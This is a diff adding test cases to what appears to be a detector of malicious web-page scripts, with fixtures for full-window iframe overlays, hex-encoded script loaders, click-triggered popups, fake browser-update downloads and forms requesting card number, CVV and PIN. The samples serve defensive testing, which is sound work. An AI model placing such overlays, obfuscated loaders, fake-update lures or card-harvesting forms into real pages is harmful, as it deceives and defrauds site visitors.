@@ -33,6 +33,15 @@ describe("what scripts do behind visitors' backs", () => {
       "a way back that leads on, as listened for",
       "addEventListener('popstate', () => { location.replace('https://there.org/offer') })",
     ],
+    [
+      "a frame over the window that asks for a proof",
+      "f=createElement('iframe');f.src='https://there.org/verify';f.style='position:fixed;inset:0'",
+    ],
+    [
+      "a script whose address is in numbers",
+      "l=['\\x68\\x74\\x74\\x70\\x3a\\x2f\\x2f\\x74\\x68\\x65\\x72\\x65\\x2e\\x6f\\x72\\x67\\x2f'];createElement('script').src=l[0]",
+    ],
+    ["any press", "document.addEventListener('click', () => { window.open('https://hot.there.org/?z=1') })"],
     ["leave for notices", "Notification.requestPermission();location='https://there.org/a'"],
   ])("%s", (_, script) => {
     expect(readTraps(script, here)).toEqual([expect.stringMatching(/ there\.org$/)]);
@@ -59,6 +68,18 @@ describe("what scripts do behind visitors' backs", () => {
     ],
     ["views within the page", "window.onpopstate = () => { location = '/list' }"],
     ["notices of its own", "button.onclick = () => Notification.requestPermission().then(save)"],
+    [
+      "a button for sharing",
+      "document.addEventListener('click', (e) => { if (e.target.id == 's') window.open('https://there.org/share') })",
+    ],
+    [
+      "notices, and a login beside them",
+      "bell.onclick=()=>Notification.requestPermission().then(p=>{save(p)});function go(){location='https://there.org/'}",
+    ],
+    [
+      "a map over the window",
+      "f=createElement('iframe');f.src='https://maps.there.org/';f.style='position:fixed;inset:0'",
+    ],
     ["an anonymous visit", "session = new Visit('Anonymous').start()"],
   ])("not %s", (_, script) => {
     expect(readTraps(script, here)).toEqual([]);
@@ -69,6 +90,20 @@ it("asks about scripts from places whose names say what they are for", () => {
   const weigh = (html: string) => sumOf(listTrapReasons(readPage(html, here)));
   expect(weigh("<p>Lessons</p><script src=//free-porn.club/pop.js></script>")).toBe(2);
   expect(weigh("<p>Lessons</p><script src=https://cdn.jsdelivr.net/npm/a.js></script>")).toBe(0);
+});
+
+it("takes a program for a false update, and no script that tells of old browsers", () => {
+  const host = (script: string) => readPage(`<p>Lessons</p><script>${script}</script>`, here).programHost;
+  expect(host("d.innerHTML='Update Chrome: <a href=https://dl.there.org/Setup.exe>'")).toBe("dl.there.org");
+  expect(host("e.src='https://browser-update.org/update.min.js' // browser update")).toBe("");
+});
+
+it("never asks for a card, its code and its PIN without being a thief's", () => {
+  const weigh = (fields: string) =>
+    sumOf(listPhishingReasons(readPage(`<p>Lessons</p><form>${fields}</form>`, here), here, ""));
+  expect(weigh("<input name=cardnumber><input name=cvv><input name=pin>")).toBe(3);
+  expect(weigh('<input placeholder="Library card number"><input name=pin>')).toBe(0);
+  expect(weigh("<input name=cardnumber><input name=cvv>")).toBe(0);
 });
 
 describe("a short page that asks for a password", () => {
